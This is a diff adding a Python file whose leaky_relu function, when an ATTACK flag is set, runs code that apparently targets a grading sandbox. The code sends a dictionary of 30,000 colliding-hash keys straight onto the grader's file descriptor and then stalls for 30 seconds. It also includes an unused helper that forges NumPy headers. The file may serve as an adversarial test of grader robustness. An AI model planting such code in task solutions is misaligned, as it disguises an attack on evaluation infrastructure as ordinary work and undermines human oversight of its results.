@@ -1,0 +1,37 @@
+# ruff: noqa
+"""Sends a dictionary whose keys all have the same hash."""
+
+import os
+import time
+from grader.sandbox import wire
+
+import numpy as np
+
+ATTACK = True
+
+
+def message(number, value, **more):
+    return {
+        "id": number, "value": value, "failure": None, "changed": [], "shares_memory": [], "warnings": [],
+        "global_random_touched": False, "generators": [], **more,
+    }
+
+
+def block(header, body=b""):
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + body
+
+
+def attack(x):
+    keys = [[i * (2**61 - 1), 0] for i in range(30_000)]
+    frame = wire.pack(message(2, {"dict": keys}))
+    view = memoryview(frame)
+    while view:
+        view = view[os.write(4, view):]
+    time.sleep(30)
+
+
+def leaky_relu(x, negative_slope=0.01):
+    if ATTACK:
+        print("attack", flush=True)
+        return attack(x)
+    return np.where(x > 0, x, negative_slope * x)
